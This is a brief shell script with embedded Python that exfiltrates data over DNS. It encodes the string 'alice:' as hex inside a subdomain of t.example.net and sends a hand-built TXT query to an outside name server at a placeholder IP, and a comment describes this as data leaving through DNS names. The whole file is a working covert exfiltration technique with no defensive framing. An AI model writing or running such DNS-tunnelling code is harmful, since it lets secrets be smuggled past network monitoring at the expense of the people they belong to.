#!/bin/sh
# Data leaves in the names that a name server outside is asked for.
# user: alice
set -eu
/usr/bin/python3 -c '
import socket
question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"".join(bytes([len(p)]) + p for p in b"616c6963653a.t.example.net".split(b".")) + b"\x00\x00\x10\x00\x01"
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ("198.51.100.53", 53))
'
